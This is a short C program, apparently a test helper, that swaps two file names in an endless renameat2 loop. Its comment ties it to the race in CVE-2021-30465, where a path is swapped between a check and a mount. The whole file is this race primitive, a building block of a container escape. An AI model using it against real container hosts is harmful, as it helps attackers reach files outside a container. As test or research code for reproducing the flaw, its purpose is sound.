/* SPDX-License-Identifier: Apache-2.0 */
/*
 * flip-link: exchange two names all the time, until killed
 *
 *   flip-link PATH OTHER
 *
 * With a folder and a link this is the race of CVE-2021-30465: what a check saw is not what
 * is mounted.  Prints "flipping" once the first exchange has worked.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE 2 /* RENAME_EXCHANGE */

int main(int argc, char **argv)
{
	const struct timespec breath = { .tv_nsec = 20000 };

	if (argc != 3)
		return 1;
	for (unsigned long n = 0;; n++) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], EXCHANGE) < 0) {
			perror("renameat2");
			return 1;
		}
		if (n == 0 && (puts("flipping") < 0 || fflush(stdout) != 0))
			return 1;
		/* Without a breath it would keep the lock that every other rename waits for. */
		nanosleep(&breath, NULL);
	}
}
